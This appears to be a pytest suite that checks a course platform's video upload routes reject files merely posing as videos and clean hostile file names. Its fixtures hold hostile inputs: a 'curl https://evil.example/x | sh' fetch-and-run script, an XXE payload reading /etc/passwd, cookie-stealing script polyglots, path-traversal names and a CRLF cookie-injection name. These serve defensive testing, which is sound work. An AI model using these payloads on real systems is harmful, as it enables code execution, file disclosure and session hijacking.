"""Files that pretend to be videos, and hostile file names, through both upload
routes: POST /api/upload (multipart, streamed) and POST /api/uploads (the
resumable create, which sniffs the base64 ``head``).

The type is decided from the first bytes by the ``filetype`` package, never by
the name or the declared Content-Type; anything it does not call ``video/*`` is
refused with 415 before a row or a byte is stored. Decisions worth knowing:
- AVI (RIFF....AVI ) is a video and passes; WebP and WAV (RIFF....WEBP / WAVE) do not.
- OGG is refused even when it carries Theora video: ``filetype`` answers
  ``audio/ogg`` for every Ogg stream, so instructors convert to MP4 or WebM.
- An MP4 ``ftyp`` brand of audio (M4A) or images (HEIC) is refused (audio/mp4, image/heic).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import os
import tarfile
import uuid
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from tests.api.support import assert_json_error
from tests.api.test_videos_api import MULTIPART, multipart, new_course, nothing_stored
from tests.server import wait_processed
from tests.stored import storage_root, stored_files

NOISE = os.urandom(20_000)


def _zip(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("movie.mp4")
        info.size = len(NOISE)
        archive.addfile(info, io.BytesIO(NOISE))
    return buffer.getvalue()


MP4_START = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
HTML = b"<!DOCTYPE html><html><head><script>fetch('/api/tokens')</script></head><body>"

# (file name it is sent under, its bytes); every one must be refused with 415.
SPOOFED: dict[str, tuple[str, bytes]] = {
    "Windows executable (MZ/PE)": ("lecture.mp4", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"PE\x00\x00" + NOISE),
    "ELF executable": ("lecture.mp4", b"\x7fELF\x02\x01\x01\x00" + NOISE),
    "Mach-O 64-bit executable": ("lecture.mov", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + NOISE),
    "Mach-O universal binary / Java class": ("lecture.mov", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + NOISE),
    "shell script": ("lecture.mp4", b"#!/bin/sh\ncurl https://evil.example/x | sh\n" * 200),
    "HTML page": ("lecture.webm", HTML + b"<p>x</p>" * 2000),
    "SVG with a script": ("poster.mp4", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
    "XML": ("lecture.mp4", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    "JSON": ("lecture.mp4", b'{"course_id": "x", "video": true}' * 100),
    "plain text": ("notes.mp4", b"Lecture notes, week one.\n" * 800),
    "zip archive": ("course.mp4", _zip(**{"movie.mp4": NOISE})),
    "gzip": ("lecture.mp4.gz", gzip.compress(NOISE)),
    "tar archive": ("lecture.mp4", _tar()),
    "7z archive": ("lecture.mp4", b"7z\xbc\xaf\x27\x1c\x00\x04" + NOISE),
    "RAR archive": ("lecture.mp4", b"Rar!\x1a\x07\x01\x00" + NOISE),
    "PDF": ("slides.mp4", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + NOISE),
    "Word document (a zip)": ("lecture.mp4", _zip(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})),
    "PNG image": ("poster.mp4", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + NOISE),
    "JPEG image": ("poster.mp4", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + NOISE),
    "GIF image": ("poster.mp4", b"GIF89a\x01\x00\x01\x00" + NOISE),
    "WebP image (RIFF....WEBP)": ("poster.webm", b"RIFF\x00\x10\x00\x00WEBPVP8 " + NOISE),
    "HEIC image (an ftyp brand)": ("photo.mp4", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + NOISE),
    "MP3 audio": ("song.mp4", b"ID3\x03\x00\x00\x00\x00\x00\x00" + NOISE),
    "WAV audio (RIFF....WAVE)": ("song.avi", b"RIFF\x00\x10\x00\x00WAVEfmt " + NOISE),
    "FLAC audio": ("song.mkv", b"fLaC\x00\x00\x00\x22" + NOISE),
    "OGG Vorbis audio": ("song.ogv", b"OggS\x00\x02" + b"\x00" * 22 + b"\x01vorbis" + NOISE),
    "OGG Theora video (filetype: audio/ogg)": ("clip.ogv", b"OggS\x00\x02" + b"\x00" * 22 + b"\x80theora" + NOISE),
    "M4A audio (an ftyp brand)": ("song.mp4", b"\x00\x00\x00\x20ftypM4A \x00\x00\x00\x00M4A mp42isom" + NOISE),
    "MIDI": ("song.mp4", b"MThd\x00\x00\x00\x06" + NOISE),
    "WebAssembly": ("lecture.mp4", b"\x00asm\x01\x00\x00\x00" + NOISE),
    "SQLite database": ("lecture.mp4", b"SQLite format 3\x00" + NOISE),
    "truncated video: the ftyp box cut at 6 bytes": ("lecture.mp4", MP4_START[:6]),
    "truncated video: only the 12-byte ftyp header": ("lecture.mp4", MP4_START[:12]),
    "zero bytes (64 KiB of NUL)": ("lecture.mp4", b"\x00" * 65536),
    "polyglot: GIF that is also JavaScript": ("lecture.mp4", b"GIF89a/*\x00\x00*/=1;alert(document.cookie);//" + b" " * 5000),
    "polyglot: PDF with an MP4 appended": ("lecture.mp4", b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n" + MP4_START + NOISE),
    "polyglot: HTML with an MP4 header further in": ("lecture.mp4", HTML + b"<!--" + MP4_START + NOISE + b"-->"),
}
EMPTY = ("lecture.mp4", b"")
AVI = ("lecture.avi", b"RIFF\x00\x10\x00\x00AVI LIST\x00\x00\x00\x00hdrlavih" + NOISE)

ROUTES = ["POST /api/upload", "POST /api/uploads"]


@pytest.fixture
def instructor(make_account, login_as):
    """A new instructor with a course and a chapter: each case its own upload budget."""
    account = make_account()
    http = login_as(account)
    course_id, (chapter_id,) = new_course(http, "Intro")
    return account, http, course_id, chapter_id


def send(http, route: str, course_id: str, chapter_id: str, filename: str | bytes, data: bytes):
    if route == "POST /api/upload":
        body = multipart([("course_id", course_id), ("chapter_id", chapter_id)], data, filename=filename)
        return http.post("/api/upload", content=body, headers={"content-type": MULTIPART})
    name = filename.decode("utf-8", "replace") if isinstance(filename, bytes) else filename
    return http.post("/api/uploads", json={
        "course_id": course_id, "chapter_id": chapter_id, "filename": name, "size": max(len(data), 1),
        "fingerprint": "v1:" + hashlib.sha1(data).hexdigest(), "head": base64.b64encode(data[:8192]).decode(),
    })


def test_there_are_at_least_30_spoofed_files():
    assert len(SPOOFED) >= 30


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("kind", list(SPOOFED))
def test_a_file_that_only_pretends_to_be_a_video_is_415_and_nothing_is_stored(
        instructor, app_server, server_engine, route, kind):
    _, http, course_id, chapter_id = instructor
    filename, data = SPOOFED[kind]

    with nothing_stored(app_server, server_engine):
        response = send(http, route, course_id, chapter_id, filename, data)

    assert "not a video" in assert_json_error(response, 415)
    assert response.json()["code"] == "not_a_video"


@pytest.mark.parametrize("route", ROUTES)
def test_an_empty_file_is_400_and_nothing_is_stored(instructor, app_server, server_engine, route):
    _, http, course_id, chapter_id = instructor

    with nothing_stored(app_server, server_engine):
        response = send(http, route, course_id, chapter_id, *EMPTY)

    assert_json_error(response, 400)


@pytest.mark.parametrize("route", ROUTES)
def test_an_avi_is_a_video_and_is_accepted(instructor, route):
    """The control: the RIFF container is sniffed by its form type, not refused wholesale."""
    _, http, course_id, chapter_id = instructor

    response = send(http, route, course_id, chapter_id, *AVI)

    assert response.status_code == 201, response.text
    assert response.json()["content_type"] == "video/x-msvideo"


# Hostile file names ---------------------------------------------------------------------------------

HOSTILE_NAMES = {
    "path traversal": "../../../../etc/cron.d/course-studio-evil.mp4",
    "windows path traversal": "..\\..\\..\\Windows\\System32\\evil.mp4",
    "absolute path": "/etc/passwd",
    "NUL byte": "lesson\x00.sh.mp4",
    "5,000 characters": "n" * 5000 + ".mp4",
    "RTL override": "lesson\u202e4pm.exe",
    "newline / CRLF header injection": "lesson.mp4\r\nSet-Cookie: cs_session=hijacked\r\nX-Injected: yes",
    "Windows reserved name": "CON",
    "dot-dot only": "..",
}
# Too long for a form header (multipart) or the JSON schema (4,096): refusing is as good as cleaning.
MAY_BE_REFUSED = {"5,000 characters"}
OUTSIDE_TARGETS = [Path("/etc/cron.d/course-studio-evil.mp4"), Path("/etc/passwd.mp4"), Path("/Windows")]


def _outside_storage(app_server) -> dict[str, int]:
    """Files of the app's home folder outside the storage root (the database and its journals aside)."""
    home, root = app_server.data_dir.parent, storage_root(app_server)
    return {p.relative_to(home).as_posix(): p.stat().st_size for p in home.rglob("*")
            if p.is_file() and root not in p.parents and not p.name.startswith(("course_studio.db", "queue.db"))
            and p.suffix != ".log"}


def _complete(http, upload: dict, data: bytes) -> dict:
    assert upload["part_count"] == 1
    response = http.put(f"/api/uploads/{upload['id']}/parts/1", content=data,
                        headers={"X-Part-SHA1": hashlib.sha1(data).hexdigest()})
    assert response.status_code == 200, response.text
    response = http.post(f"/api/uploads/{upload['id']}/complete", json={})
    assert response.status_code == 200, response.text
    return response.json()


def _is_clean(name: str) -> bool:
    return (0 < len(name) <= 255 and name not in (".", "..") and "/" not in name and "\\" not in name
            and not any(ord(ch) < 32 or ord(ch) == 127 or ch in "\u202e\u202d\u2066\u2067\u2068" for ch in name))


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("kind", list(HOSTILE_NAMES))
def test_a_hostile_file_name_is_kept_only_as_clean_data(instructor, clip, app_server, server_engine, route, kind):
    account, http, course_id, chapter_id = instructor
    name = HOSTILE_NAMES[kind]
    raw = name.encode("utf-8")
    passwd = Path("/etc/passwd").stat()
    wait_processed(server_engine)  # earlier tests' thumbnails are written before the count
    files_before, outside_before = stored_files(app_server), _outside_storage(app_server)

    response = send(http, route, course_id, chapter_id, raw, clip)
    if response.status_code in (400, 422) and kind in MAY_BE_REFUSED:  # refused as input: nothing is stored
        assert stored_files(app_server) == files_before
        video = None
    else:
        assert response.status_code == 201, response.text
        assert not any(h.lower().startswith("x-injected") for h in response.headers), response.headers
        assert "hijacked" not in str(response.headers.get_list("set-cookie"))
        video = response.json() if route == "POST /api/upload" else _complete(http, response.json(), clip)

    if video is not None:
        shown = http.get(f"/api/videos/{video['id']}").json()["filename"]
        assert _is_clean(shown) and _is_clean(video["filename"]), repr(shown)
        with server_engine.connect() as conn:
            key = conn.execute(sa.text("SELECT storage_key FROM videos WHERE id = :id"),
                               {"id": uuid.UUID(video["id"]).hex}).scalar_one()
        assert key == f"videos/{account.id}/{video['id']}"
        wait_processed(server_engine, [video["id"]])  # its thumbnails go beside it, under its key
        new = stored_files(app_server) - files_before
        assert {key, key + ".meta.json"} <= new and all(name.startswith(key + ".") for name in new - {key}), new
        assert (storage_root(app_server) / key).read_bytes() == clip
    assert _outside_storage(app_server) == outside_before, "a file was written outside the storage folder"
    assert not any(target.exists() for target in OUTSIDE_TARGETS)
    assert Path("/etc/passwd").stat().st_mtime_ns == passwd.st_mtime_ns
